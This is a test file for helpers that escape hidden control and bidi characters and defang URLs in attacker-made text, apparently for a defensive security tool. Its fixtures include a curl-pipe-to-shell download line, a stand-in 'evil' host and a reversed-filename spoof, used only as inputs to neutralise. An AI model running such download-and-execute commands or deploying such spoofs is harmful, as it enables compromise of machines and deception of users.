// Attacker-made text: nothing hidden, nothing turned round, nothing to click.
import { describe, expect, test } from 'vitest'
import { bytes, counted, defang, defangUrls, visible } from './format.ts'

describe('visible', () => {
  test.each([
    ['a\tb\nc\rd', 'a\\tb\\nc\\rd'],
    ['\u001b[31mred\u0007', '\\x1b[31mred\\x07'],
    ['\u202egnp.exe', '<U+202E>gnp.exe'],
    ['zero\u200bwidth\u2066x\ufeff', 'zero<U+200B>width<U+2066>x<U+FEFF>'],
    ['tag\u{e0041}', 'tag<U+E0041>'],
    ['\u0085\u00ad', '\\x85\\xad'],
    ['plain <b>text</b> é 漢', 'plain <b>text</b> é 漢'],
  ])('%j', (text, shown) => {
    expect(visible(text)).toBe(shown)
  })

  test('nothing that it gives needs it again', () => {
    const all = Array.from({ length: 0x2100 }, (_, code) => String.fromCodePoint(code)).join('')
    expect(visible(visible(all))).toBe(visible(all))
  })
})

describe('defang', () => {
  test.each([
    ['http://evil.example/a.sh', 'hxxp://evil[.]example/a.sh'],
    ['HTTPS://A.B/x?y=1.2', 'HxxPS://A[.]B/x?y=1.2'],
    ['ftp://198.51.100.9/x', 'fxp://198[.]51[.]100[.]9/x'],
    ['127.0.0.1', '127[.]0[.]0[.]1'],
    ['2001:db8::1', '2001:db8::1'],
  ])('%s', (text, safe) => {
    expect(defang(text)).toBe(safe)
  })

  test('in running text only URLs change', () => {
    expect(defangUrls('curl http://198.51.100.9/x.sh | sh; ping 192.0.2.1')).toBe(
      'curl hxxp://198[.]51[.]100[.]9/x.sh | sh; ping 192.0.2.1',
    )
  })
})

test('sizes and counts', () => {
  expect([bytes(0), bytes(999), bytes(4_312), bytes(61_000_000_000)]).toEqual(['0 B', '999 B', '4.3 kB', '61 GB'])
  expect([counted(1, 'file'), counted(2_000, 'decky', 'deckies')]).toEqual(['1 file', '2,000 deckies'])
})
